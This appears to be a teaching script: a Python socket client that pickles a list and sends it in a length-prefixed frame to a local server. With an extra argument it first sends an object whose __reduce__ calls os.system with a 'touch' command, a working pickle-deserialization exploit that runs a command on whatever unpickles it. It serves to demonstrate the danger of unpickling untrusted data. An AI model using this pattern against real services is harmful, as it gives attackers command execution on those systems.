"""A client as a student writes it: pickles one list and sends it in a frame.

usage: pickle_client.py PORT [evil]    With "evil", an object that would run a command goes first.
"""

import os
import pickle
import socket
import sys

HEADER = 10


class Evil:
    def __reduce__(self):
        return os.system, ("touch " + sys.argv[2],)


def send(sock, value):
    data = pickle.dumps(value)
    frame = f"{len(data):<{HEADER}}".encode("ascii") + data
    sock.sendall(frame)
    print(frame, flush=True)


def main():
    with socket.create_connection(("127.0.0.1", int(sys.argv[1]))) as sock:
        if len(sys.argv) > 2:
            send(sock, ["hola", Evil()])
        send(sock, [{"nombre": "Elvio", "apellido": "Lado"}, ("ene", "feb", "mar"), 1 + 3j])


if __name__ == "__main__":
    main()
